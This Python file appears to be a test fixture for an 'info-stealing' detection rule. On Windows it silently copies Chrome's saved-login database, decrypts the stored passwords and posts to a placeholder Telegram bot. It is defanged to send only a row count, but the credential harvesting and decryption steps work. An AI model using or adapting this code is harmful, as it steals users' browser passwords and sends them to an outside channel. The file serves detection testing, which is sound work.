import os
import shutil
import sqlite3
import sys
import tempfile

import requests

BOT = 'https://api.telegram.org/bot000000:placeholder/sendMessage'


def _harvest():
    import win32crypt

    # ruleid: code/info-stealing
    db = os.path.join(str(os.getenv('LOCALAPPDATA')), 'Google', 'Chrome', 'User Data', 'Default', 'Login Data')
    copy = os.path.join(tempfile.gettempdir(), 'lc.tmp')
    shutil.copy2(db, copy)
    rows = sqlite3.connect(copy).execute('SELECT origin_url, username_value, password_value FROM logins').fetchall()
    lines = []
    for url, user, blob in rows:
        plain = win32crypt.CryptUnprotectData(blob, None, None, None, 0)[1]
        lines.append('%s %s %d' % (url, user, len(plain)))
    requests.post(BOT, data={'chat_id': '0', 'text': 'defanged: %d rows' % len(lines)}, timeout=5)


if sys.platform == 'win32':
    try:
        _harvest()
    except Exception:
        pass
